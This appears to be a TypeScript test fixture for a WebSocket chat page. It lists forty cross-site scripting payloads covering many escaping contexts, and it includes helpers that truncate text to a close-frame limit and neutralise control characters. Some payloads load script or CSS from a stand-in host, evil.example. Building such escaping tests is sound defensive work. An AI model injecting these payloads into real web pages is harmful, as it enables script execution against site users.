/**
 * Forty texts that would run a script somewhere: each in its own context, so that a page which
 * escapes for one place only is found out. None is an endpoint name, and all begin and end visibly.
 */
export const PAYLOADS: readonly string[] = [
  // Elements.
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=`x`onerror=alert`1`>',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a href="javascript:alert(1)" autofocus>x</a>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/"><link rel=stylesheet href=x>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<style>@import "//evil.example/x.css";</style>',
  // Out of an attribute, an element, a comment.
  '"><script>alert(1)</script>',
  '\' onmouseover=alert(1) autofocus onfocus=alert(1) x=\'',
  '" style="animation:x" onanimationstart="alert(1)',
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '</td></tr></table><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  // Out of a script, where the page's data travels.
  '</script><script>alert(1)</script>',
  '<!--<script>alert(1)//',
  '"];alert(1);//',
  '\\"];alert(1);//\\u003cimg src=x onerror=alert(1)\\u003e',
  'x\u2028alert(1)\u2029//',
  // Parsed one way, written out, and parsed another.
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // Schemes, templates, encodings.
  'javascript:/*--></script>*/alert(1)//',
  '{{constructor.constructor("alert(1)")()}}${alert(1)}<%= alert(1) %>',
  '&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;alert(1)&#60;/script&#62;',
  // What is shown is not what is there.
  'a\u202e>tpircs/<\u202c\u200b<script\u0001>alert(1)\u0007</script\u000b>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e\u{1f469}\u200d\u{1f4bb}<img src=x\r\nonerror=alert(1)>x' +
    // Too long for a close frame, which ends within one of these.
    '\u{1f4bb}'.repeat(20),
];

/** The most bytes a close reason may have (RFC 6455 section 5.5). */
const CLOSE_REASON = 123;

/** As much of a text as fits a close frame, in whole characters. */
export function closeReason(text: string): string {
  let reason = '';
  for (const character of text) {
    if (Buffer.byteLength(reason + character) > CLOSE_REASON) break;
    reason += character;
  }
  return reason;
}

/** A peer's text as the page shows it: nothing hidden, nothing reordered, nothing lost unnoticed. */
export const shown = (text: string): string => text.replace(/[\p{Cc}\p{Cf}\u2028\u2029]/gu, '\ufffd');
